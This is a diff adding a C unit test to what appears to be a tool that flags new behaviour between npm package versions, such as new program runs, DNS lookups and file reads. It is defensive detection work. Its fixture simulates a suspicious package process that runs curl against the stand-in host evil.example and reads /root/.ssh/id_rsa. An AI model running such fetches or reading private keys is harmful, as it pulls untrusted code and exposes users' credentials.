@@ -132,6 +132,32 @@ START_TEST(npm_reads_new_file)
 }
 END_TEST
 
+/* A new program's libraries and locale data, and a new lookup's resolver
+ * files, are folded into the new exec / DNS finding of the same process. */
+START_TEST(loader_and_resolver_reads_fold)
+{
+	static const char *const want[] = {"/usr/bin/curl", "evil.example", "/usr/lib/x86_64-linux-gnu/libfoo.so.1",
+					   "/etc/hosts", "~/.ssh/id_rsa"};
+	fangs_fpset *base;
+	t_open(&run_a, NULL, "/usr/share/nodejs/npm/package.json", FANGS_OPEN_READ);
+	base = baseline_of(differ, &run_a, "1.0.0");
+	t_exec(&run_b, "foo", "/usr/bin/curl", "curl", "-s", "http://evil.example/x", NULL)->pid = 777;
+	t_open(&run_b, "foo", "/etc/ld.so.cache", FANGS_OPEN_READ)->pid = 777;
+	t_open(&run_b, "foo", "/usr/lib/x86_64-linux-gnu/libcurl.so.4", FANGS_OPEN_READ)->pid = 777;
+	t_open(&run_b, "foo", "/usr/lib/locale/C.utf8/LC_CTYPE", FANGS_OPEN_READ)->pid = 777;
+	t_dns(&run_b, "foo", "evil.example")->pid = 777;
+	t_open(&run_b, "foo", "/etc/resolv.conf", FANGS_OPEN_READ)->pid = 777;
+	/* another process with nothing new of its own: its reads stand */
+	t_open(&run_b, "foo", "/usr/lib/x86_64-linux-gnu/libfoo.so.1", FANGS_OPEN_READ)->pid = 888;
+	t_open(&run_b, "foo", "/etc/hosts", FANGS_OPEN_READ)->pid = 888;
+	/* secrets are never folded, whoever reads them */
+	t_open(&run_b, "foo", "/root/.ssh/id_rsa", FANGS_OPEN_READ)->pid = 777;
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
+	expect_values(&devs, want, sizeof(want) / sizeof(want[0]));
+	fangs_fpset_free(base);
+}
+END_TEST
+
 START_TEST(sh_c_new_command_line)
 {
 	fangs_fpset *base;
@@ -576,6 +602,7 @@ TCase *tcase_analyze(void)
 	tcase_add_test(tc, first_run_seeds);
 	tcase_add_test(tc, npmrc_by_npm_vs_script);
 	tcase_add_test(tc, npm_reads_new_file);
+	tcase_add_test(tc, loader_and_resolver_reads_fold);
 	tcase_add_test(tc, sh_c_new_command_line);
 	tcase_add_test(tc, noise_only_run);
 	tcase_add_test(tc, allowlists);
